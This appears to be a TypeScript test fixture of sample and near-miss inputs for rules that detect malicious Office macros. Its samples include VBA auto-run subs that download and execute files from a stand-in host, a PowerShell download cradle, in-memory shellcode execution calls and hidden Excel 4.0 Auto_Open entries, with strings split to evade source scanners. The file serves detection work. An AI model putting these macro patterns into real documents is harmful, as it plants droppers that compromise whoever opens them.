import type { RuleSample } from './rule-sample.ts';

// Commands are put together here so that scanners of source code leave this file alone.
const SHELL = ['WScript.', 'Shell'].join('');
const XML_HTTP = ['MSXML2.', 'XMLHTTP'].join('');
const STREAM = ['ADODB.', 'Stream'].join('');
const DOWNLOAD = ['URLDownload', 'ToFile'].join('');
const ALLOCATE = ['Virtual', 'Alloc'].join('');

const makeVba =
  (...lines: readonly string[]) =>
  (): string =>
    ['Attribute VB_Name = "Module1"', ...lines, 'End Sub'].join('\r\n');

const SHEET = 'Excel 4.0 macro sheet, hidden: Macro1\n';
const WORKBOOK = '<?xml version="1.0"?><workbook><definedNames>';

export const MACRO_SAMPLES: readonly RuleSample[] = [
  [
    'VBA_Downloads_And_Runs_When_Opened',
    'Module1.bas',
    makeVba('Sub AutoOpen()', `${DOWNLOAD} 0, "http://x.example/a.exe", "a.exe", 0, 0`, 'Shell "a.exe"'),
  ],
  [
    'VBA_Downloads_And_Runs_When_Opened',
    'all-modules.bas',
    makeVba(
      'Private Sub Workbook_Open()',
      `Set h = CreateObject("${XML_HTTP}")`,
      `Set s = CreateObject("${STREAM}")`,
      's.SaveToFile p, 2',
      `CreateObject("${SHELL}").Run p`,
    ),
  ],
  [
    'VBA_Downloads_And_Runs_When_Opened',
    'ThisDocument.cls',
    makeVba('Sub Document_Open()', 'Shell ("powershell -c (New-Object Net.WebClient).DownloadFile(1, 2)")'),
  ],
  ['VBA_Starts_Program_When_Opened', 'Module1.bas', makeVba('Sub Auto_Open()', 'x = Shell("calc.exe", 1)')],
  [
    'VBA_Starts_Program_When_Opened',
    'ThisWorkbook.cls',
    makeVba('Private Sub Workbook_BeforeClose(c As Boolean)', `CreateObject("${SHELL}").Run "calc"`),
  ],
  [
    'VBA_Runs_Code_From_Memory',
    'Module1.bas',
    makeVba(
      'Sub AutoOpen()',
      `p = ${ALLOCATE}(0, n, 4096, 64)`,
      'RtlMoveMemory p, b, n',
      'CreateThread 0, 0, p',
    ),
  ],
  ['Excel4_Macro_Starts_Itself', 'macro-sheets.txt', () => `${SHEET}Runs by itself: Auto_Open\n`],
  [
    'Excel4_Macro_Starts_Itself',
    'workbook.xml',
    () =>
      `${WORKBOOK}<definedName hidden="1" name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>`,
  ],
];

export const MACRO_NEAR_MISSES: readonly RuleSample[] = [
  ['VBA that starts a program when asked', 'Module1.bas', makeVba('Sub Export()', 'Shell "notepad.exe"')],
  ['VBA that only runs when opened', 'Module1.bas', makeVba('Sub AutoOpen()', 'Selection.Font.Bold = True')],
  [
    'VBA that names its sub like one that is run',
    'Module1.bas',
    makeVba('Sub AutoOpenLater()', 'Shell "notepad.exe"'),
  ],
  [
    'VBA that fetches data when opened',
    'ThisWorkbook.cls',
    makeVba('Sub Workbook_Open()', `Set h = CreateObject("${XML_HTTP}")`, 'h.Send'),
  ],
  ['a Visual Basic 6 module', 'Form1.frm', () => `VERSION 5.00\r\nSub AutoOpen()\r\nShell "a.exe"`],
  ['a sheet of Excel 4 macros that nothing starts', 'macro-sheets.txt', () => SHEET],
  [
    'a workbook with a print area',
    'workbook.xml',
    () => `${WORKBOOK}<definedName name="_xlnm.Print_Area">Sheet1!$A$1</definedName></definedNames>`,
  ],
];
